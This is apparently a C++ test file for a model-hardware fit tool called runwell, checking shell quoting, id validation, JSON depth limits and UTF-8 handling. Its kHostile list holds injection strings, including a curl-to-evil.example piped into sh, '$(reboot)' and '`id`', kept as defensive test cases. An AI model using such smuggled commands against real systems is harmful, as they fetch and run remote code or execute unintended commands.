// Hostile input (issue: links and files as attack surface). Each reproduction of a
// reported problem is a case here; expected values are the documented behaviour.
#include <nlohmann/json.hpp>

#include "../core/cli/args.hpp"
#include "runwell/shell.hpp"
#include "support.hpp"

using nlohmann::json;
using namespace runwell;

namespace {
json call(const std::string& request) {
    json r = json::parse(test::engine().call(request), nullptr, false);
    REQUIRE_FALSE(r.is_discarded());
    return r;
}

const char* const kHostile[] = {
    "q; curl -s http://evil.example/y.sh | sh; #", "a|b", "$(reboot)", "`id`", "x\ny", "it's", "\"quoted\"", "a b",
    "-rf", "..", "\xEF\xBC\x9B",  // U+FF1B fullwidth semicolon, a look-alike
    "q\rq", "a&&b", "a>b", "\x1b[31mred"};
}  // namespace

TEST_CASE("shell_quote: plain words stay, anything else is single-quoted") {
    // Expected strings written by hand from POSIX quoting rules (XCU 2.2.2).
    CHECK(shell_quote("llama-server") == "llama-server");
    CHECK(shell_quote("moonshotai/Kimi-Linear-48B-A3B-Instruct") == "moonshotai/Kimi-Linear-48B-A3B-Instruct");
    CHECK(shell_quote("") == "''");
    CHECK(shell_quote("a b") == "'a b'");
    CHECK(shell_quote("it's") == "'it'\\''s'");
    CHECK(shell_quote("$(reboot)") == "'$(reboot)'");
    CHECK(shell_quote("x\ny") == "'x\ny'");
}

TEST_CASE("hostile ids and repositories are refused before they reach a command") {
    for (const char* bad : kHostile) {
        INFO(bad);
        json quant = {{"id", bad}, {"bits", 4}, {"bpw_body", 4.8}, {"bpw_embed", 4.5}, {"bpw_output", 6.5}};
        json r = call(json({{"model", "llama-3.1-8b-instruct"}, {"hardware", "rtx-4090"}, {"quant", quant}}).dump());
        CHECK(r["ok"] == false);
        CHECK(r["error"]["code"] == "bad_id");
        CHECK(r["error"]["path"] == "quant.id");
        json model = json::parse(R"({"params_b": 8, "layers": 32, "hidden": 4096, "vocab": 128256, "max_context": 131072,
                                     "attention": {"kind": "gqa", "heads": 32, "kv_heads": 8, "head_dim": 128}})");
        model["hf_repo"] = std::string("meta-llama/") + bad;
        json rm = call(json({{"model", model}, {"hardware", "apple-m4-max-40c-128gb"}}).dump());
        CHECK(rm["ok"] == false);
        CHECK(rm["error"]["code"] == "bad_id");
        CHECK(rm["error"]["path"] == "model.hf_repo");
    }
}

TEST_CASE("every command line renders to exactly its argv words") {
    // The words a POSIX shell reads back from shell_quote: undo the quoting rule by hand.
    auto unquote = [](const std::string& w) {
        if (w.empty() || w.front() != '\'') return w;
        std::string out;
        for (size_t i = 1; i + 1 < w.size(); ++i) {
            if (w.compare(i, 4, "'\\''") == 0) { out += '\''; i += 3; } else out += w[i];
        }
        return out;
    };
    for (const char* model : {"kimi-linear-48b-a3b-instruct", "llama-3.1-70b-instruct", "qwen3-30b-a3b"})
        for (const char* device : {"rtx-4090", "apple-m2-ultra-128gb", "mi100", "l40"}) {
            json r = call(json({{"model", model}, {"hardware", device}, {"host_ram_gib", 64}}).dump());
            REQUIRE(r["ok"] == true);
            for (const json& c : r["commands"]) {
                std::string text = c["text"];
                CHECK(text.find('`') == std::string::npos);
                CHECK(text.find("$(") == std::string::npos);
                for (const json& line : c["argv"])
                    for (const json& word : line) {
                        std::string w = word;
                        CHECK(text.find(shown_word(w)) != std::string::npos);
                        CHECK(unquote(shell_quote(w)) == w);
                    }
            }
        }
}

TEST_CASE("JSON nested beyond the limit is refused without recursion (batch crash reproduction)") {
    std::string deep = R"({"op":"import_config","config":)" + std::string(70000, '[') + std::string(70000, ']') + "}";
    json r = call(deep);
    CHECK(r["error"]["code"] == "bad_json");
    CHECK(r["error"]["message"].get<std::string>().find("nested deeper than 64") != std::string::npos);
    // Brackets inside strings are text, not nesting.
    json ok = call(R"({"model":")" + std::string(1000, '[') + R"(","hardware":"rtx-4090"})");
    CHECK(ok["error"]["code"] == "unknown_model");
}

TEST_CASE("absurd inline models give bounded layer counts (UBSan double->int reproduction)") {
    json model = json::parse(R"({"params_b": 0.0001, "layers": 4096, "hidden": 1000000, "vocab": 10000000, "max_context": 131072,
                                 "attention": {"kind": "gqa", "heads": 32, "kv_heads": 8, "head_dim": 128}})");
    json r = call(json({{"model", model}, {"hardware", "rtx-3050"}, {"quant", "Q4_K_M"}}).dump());
    REQUIRE(r["ok"] == true);
    CHECK(r["offload"]["gpu_layers"].get<int>() >= 0);
    CHECK(r["offload"]["gpu_layers"].get<int>() <= 4096);
    CHECK(r["offload"]["cpu_expert_layers"].get<int>() >= 0);
}

TEST_CASE("odd but valid input means what it says") {
    // host_ram_gib 0: no spare host RAM, so an offload cannot be planned.
    json none = call(R"({"model":"llama-3.1-70b-instruct","hardware":"rtx-4090","quant":"Q4_K_M","host_ram_gib":0})");
    CHECK(none["fit"] == "wont_run");
    CHECK(none["query"]["host_ram_gib"] == 0);
    json some = call(R"({"model":"llama-3.1-70b-instruct","hardware":"rtx-4090","quant":"Q4_K_M","host_ram_gib":64})");
    CHECK(some["fit"] == "offload");
    // One memory pool cannot be multiplied.
    json mac = call(R"({"model":"llama-3.1-8b-instruct","hardware":"apple-m2-ultra-128gb","gpus":64})");
    CHECK(mac["error"]["code"] == "out_of_range");
    CHECK(mac["error"]["path"] == "gpus");
    // A decode position past the allocated context does not exist: capped to it.
    json deep = call(R"({"model":"llama-3.1-8b-instruct","hardware":"rtx-4090","context":131072,"depth":100000000})");
    CHECK(deep["depth"] == 131072);
    // A non-string op is a type error, not "missing model".
    json op = call(R"({"op":5})");
    CHECK(op["error"]["code"] == "wrong_type");
    CHECK(op["error"]["path"] == "op");
}

TEST_CASE("catalog text with terminal escapes or direction overrides is refused") {
    auto files = test::bundled_files();
    for (auto& [name, text] : files)
        if (name == "models.json") {
            auto at = text.find("\"Kimi Linear 48B-A3B Instruct\"");
            REQUIRE(at != std::string::npos);
            text.replace(at, 30, "\"Kimi \\u001b[2J Linear\"");
        }
    CatalogLoad load = load_catalog(files);
    REQUIRE_FALSE(load.ok());
    CHECK(load.problems.front().code == "bad_text");
}

TEST_CASE("CLI flags: any bytes become a valid request, never an exception (crash reproduction)") {
    // Before: `runwell estimate --model $'\xff'` aborted on nlohmann's invalid-UTF-8 exception.
    json req = {{"op", "estimate"}};
    bool as_json = false;
    std::string error;
    REQUIRE(runwell::cli::build_request({"--model", "\xff\xfe", "--hardware", "l40", "--context", "8192"}, req, as_json, error));
    std::string text = runwell::cli::request_text(req);
    json back = json::parse(text, nullptr, false);
    REQUIRE_FALSE(back.is_discarded());
    CHECK(back["model"] == "\xEF\xBF\xBD\xEF\xBF\xBD");  // two U+FFFD replacement characters
    json answer = call(text);
    CHECK(answer["ok"] == false);
    CHECK_FALSE(runwell::cli::build_request({"--gpus", std::string(1000, '[')}, req, as_json, error));
    CHECK(error.find("needs a number") != std::string::npos);
}

TEST_CASE("a quoted piece of a hostile GPU list stays valid UTF-8 (fuzz_cli crash reproduction)") {
    // Before: the unknown id was cut at 60 bytes, inside a replacement character (3 bytes), and the
    // answer could not be serialised: `runwell estimate --hardware $'\x96\x96\x96...,...'` aborted.
    std::string id = std::string(59, 'a') + "\xEF\xBF\xBD\xEF\xBF\xBD";  // bytes 59-61 are one character
    json answer = call(json({{"op", "estimate"}, {"model", "qwen3-8b"}, {"hardware", id + ",l40"}}).dump());
    CHECK(answer["ok"] == false);
    CHECK(answer["error"]["code"] == "unknown_hardware");
    const std::string message = answer["error"]["message"];
    CHECK(message.find(std::string(59, 'a') + "'") != std::string::npos);  // cut before the character, not inside it
}
